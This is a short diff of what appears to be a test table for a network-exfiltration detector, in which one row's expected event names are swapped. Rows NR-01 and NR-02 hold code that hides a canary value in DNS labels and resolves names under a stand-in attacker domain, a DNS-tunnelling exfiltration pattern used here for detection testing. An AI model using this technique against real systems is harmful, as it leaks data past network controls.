@@ -18,7 +18,7 @@ ROWS = [
     Row("NR-01", "data in the labels of many names", "metadata", act("""
         for n in range(5):
             attempt(socket.getaddrinfo, "v2-f.%d.%s.%s.v2-e.exfil.attacker.test" % (n, CANARY, (CANARY * 3)[:60].encode().hex()[:60]), 80)
-        """), name("v2-f.*.{canary}.*"), Event("net.resolve", "net.resolve.tunnel", {"host": "v2-f.4.canary-nr-01-*.v2-e.exfil.attacker.test"})),
+        """), name("v2-f.*.{canary}.*"), Event("net.resolve.tunnel", "net.resolve", {"host": "v2-f.4.canary-nr-01-*.v2-e.exfil.attacker.test"})),
     Row("NR-02", "gethostbyname, gethostbyname_ex, res_query", "build", act("""
         import ctypes
         attempt(socket.gethostbyname, "one." + CANARY + ".attacker.test")
